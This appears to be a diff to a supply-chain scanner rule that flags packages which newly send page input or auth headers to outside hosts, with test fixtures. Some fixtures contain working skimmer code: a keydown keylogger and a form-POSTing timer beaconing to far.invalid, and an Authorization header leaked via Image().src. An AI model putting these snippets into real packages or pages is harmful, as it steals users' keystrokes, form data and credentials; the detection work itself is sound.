@@ -31,6 +31,11 @@ export const secretSent: Rule = defineRule({
   appliesToAdditions: true,
   needs: ['behaviors', 'files'],
   kinds: {
+    typed: {
+      level: 'block',
+      about:
+        'What people type into a page is sent as soon as the page loads the package, which never sent anything before.',
+    },
     'input-sent': {
       level: 'review',
       about: 'What users give to a function is sent to a host, by a package that did not talk to the network before.',
@@ -135,8 +140,62 @@ exports.Wallet = Wallet;
         },
       ],
     },
+    {
+      title: 'what is typed into a page, and what its forms hold, by a package that never sent anything',
+      before: { 'index.js': 'exports.open = () => document.createElement("div");\n' },
+      after: {
+        'index.js': `exports.open = () => document.createElement("div");
+document.addEventListener('keydown', (event) => navigator.sendBeacon('https://far.invalid/k', event.target.value));
+setInterval(() => {
+  const request = new XMLHttpRequest();
+  request.open('POST', 'https://far.invalid/f');
+  request.send(new FormData(document.querySelector('form')));
+}, 5000);
+`,
+      },
+      expect: [
+        {
+          kind: 'typed',
+          message: 'navigator.sendBeacon sends what it is given as keydown event to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js', '(anonymous function)'],
+        },
+        {
+          kind: 'typed',
+          message: 'XMLHttpRequest().send sends what it is given as document.querySelector to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 6 },
+          via: ['main', 'index.js', '(anonymous function)'],
+        },
+      ],
+    },
+    {
+      title: 'the header that a client logs in with, for another host',
+      before: { 'index.js': `exports.ask = (config) => fetch('https://api.invalid/', config);\n` },
+      after: {
+        'index.js': `exports.ask = (config) => {\n  new Image().src = 'https://far.invalid/?' + config.headers.Authorization;\n  return fetch('https://api.invalid/', config);\n};\n`,
+      },
+      expect: [
+        {
+          kind: 'service-token',
+          message: 'Image().src = sends Authorization to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js', 'ask()'],
+        },
+      ],
+    },
   ],
   passes: [
+    {
+      title: 'what is typed into a page is checked, searched for beside it, and sent where the page says',
+      before: { 'index.js': 'exports.open = () => document.createElement("div");\n' },
+      after: {
+        'index.js': `exports.open = () => document.createElement("div");
+document.addEventListener('keydown', (event) => { if (event.key === 'Escape') exports.close(); });
+document.addEventListener('input', (event) => fetch('/search?q=' + event.target.value));
+document.addEventListener('submit', (event) => fetch(event.target.action, { body: new FormData(event.target) }));
+`,
+      },
+    },
     {
       title: 'the same host as before by other means, a signature, a check, and a host that the caller names',
       before: {
@@ -177,14 +236,20 @@ exports.load = (apiKey) => fetch('engine.wasm', { headers: { apiKey } });
         return [evidenceOf(behavior, message, holdsAddress(files.before, host) ? 'same-host' : 'service-token')];
       }
       const [input] = carries.filter(({ sort }) => sort === 'input');
-      if (input === undefined || !isNewToNetwork || tier !== 'call') return [];
+      if (input === undefined || !isNewToNetwork) return [];
       const message = `${api} sends what it is given as ${shorten(input.name)} to ${shorten(host)}`;
-      return [evidenceOf(behavior, message, isClient ? 'of-addition' : 'input-sent')];
+      if (tier === 'call') return [evidenceOf(behavior, message, isClient ? 'of-addition' : 'input-sent')];
+      return isTyped(input.name) ? [evidenceOf(behavior, message, isAddition ? 'of-addition' : 'typed')] : [];
     });
   },
 });
 
-type Kind = 'service-token' | 'same-host' | 'input-sent' | 'of-addition';
+/** Fields and forms of the page, and events that tell what somebody does there. */
+function isTyped(name: string): boolean {
+  return /^(?:document\.|FormData\()| event$/.test(name);
+}
+
+type Kind = 'typed' | 'service-token' | 'same-host' | 'input-sent' | 'of-addition';
 
 /** Undefined where the text does not tell it: then it is the caller's. The own machine is no stranger. */
 function hostOf({ api, detail }: Behavior): string | undefined {
